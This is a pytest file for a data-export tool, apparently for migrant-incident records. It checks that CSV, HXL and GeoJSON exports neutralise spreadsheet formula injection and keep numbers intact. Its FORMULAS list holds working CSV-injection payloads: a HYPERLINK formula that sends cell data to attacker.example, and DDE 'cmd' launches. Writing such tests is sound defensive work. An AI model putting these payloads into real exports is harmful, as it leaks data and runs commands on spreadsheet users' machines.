"""Exports never hand a spreadsheet a formula (OWASP CSV injection), and never spoil a number."""

from __future__ import annotations

import csv
import io
import json
from datetime import date

import pytest

from waypost.formats import geojson
from waypost.formats.cells import spreadsheet_safe
from waypost.formats.hxl import read_hxl_csv, write_hxl_csv
from waypost.formats.mmp import read_mmp, write_mmp_csv

FORMULAS = [
    '=HYPERLINK("https://attacker.example/?x="&A1,"details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_that_starts_like_a_formula_gets_a_leading_quote(text):
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize(
    "text", ["-1", "-12.5", "+3", "-1e3", "", "Zuwara", "2026-01-02", "2014.MMP00001", "it's"]
)
def test_numbers_and_plain_text_are_left_as_they_are(text):
    assert spreadsheet_safe(text) == text


def test_a_cell_that_already_starts_with_the_quote_keeps_it_through_a_round_trip():
    from waypost.formats.cells import spreadsheet_unquote

    for text in ["'=1", "''+2", "'-x", *FORMULAS, "-1", "Zuwara"]:
        assert spreadsheet_unquote(spreadsheet_safe(text)) == text
    assert spreadsheet_safe("'=1") == "''=1"
    assert spreadsheet_unquote("it's") == "it's"


def incident(**values):
    base = {
        "mmp_id": "2026.MMP0001",
        "main_id": "2026.MMP0001",
        "incident_ids": ["2026.MMP0001"],
        "date": date(2026, 1, 2),
        "year": 2026,
        "month": 1,
        "dead": -1,
        "missing": 3,
        "latitude": -33.85,
        "longitude": 151.2,
        "region": "Mediterranean",
    }
    return {**base, **values}


HOSTILE = {
    "place": FORMULAS[0],
    "source": FORMULAS[1],
    "route": FORMULAS[2],
    "url": FORMULAS[3],
    "country": FORMULAS[4],
    "origin_countries": FORMULAS[5],
}


def test_the_mmp_csv_export_neutralises_formulas_keeps_numbers_and_reads_back(tmp_path):
    out = io.StringIO()

    write_mmp_csv([incident(**HOSTILE)], out)

    header, row = list(csv.reader(io.StringIO(out.getvalue())))
    cells = dict(zip(header, row, strict=True))
    assert cells["Location of Incident"] == "'" + FORMULAS[0]
    assert cells["Information Source"] == "'" + FORMULAS[1]
    assert cells["Migration Route"] == "'" + FORMULAS[2]
    assert cells["URL"] == "'" + FORMULAS[3]
    assert cells["Country of Incident"] == "'" + FORMULAS[4]
    assert cells["Country of Origin"] == "'" + FORMULAS[5]
    assert cells["Number of Dead"] == "-1"  # a negative count stays a number
    assert cells["Total Number of Dead and Missing"] == "2"
    assert all(not cell or cell[0] not in "=+-@\t\r" or cell == "-1" for cell in row)
    # Read back by Waypost, the quote that protected the cell is taken off again.
    path = tmp_path / "export.csv"
    path.write_text(out.getvalue(), encoding="utf-8")
    again = read_mmp(path).incidents[0]
    assert (again.place, again.source, again.route, again.url) == (
        FORMULAS[0],
        FORMULAS[1],
        FORMULAS[2],
        FORMULAS[3],
    )
    assert (again.latitude, again.longitude, again.dead) == (-33.85, 151.2, -1)


def test_the_hxl_export_neutralises_formulas_and_keeps_numbers():
    out = io.StringIO()

    write_hxl_csv([incident(**HOSTILE)], out)

    row = read_hxl_csv(out.getvalue())[0]
    assert row["#loc+name"] == "'" + FORMULAS[0]
    assert row["#meta+source"] == "'" + FORMULAS[1]
    assert row["#affected+killed"] == "-1"
    assert row["#geo+lat"] == "-33.85" and row["#geo+lon"] == "151.2"


def test_the_geojson_export_neutralises_formula_text_and_keeps_numbers_numbers():
    collection = json.loads(geojson.dumps([incident(**HOSTILE)]))

    properties = collection["features"][0]["properties"]
    assert properties["place"] == "'" + FORMULAS[0]
    assert properties["url"] == "'" + FORMULAS[3]
    assert properties["dead"] == -1 and properties["missing"] == 3
    assert collection["features"][0]["geometry"]["coordinates"] == [151.2, -33.85]
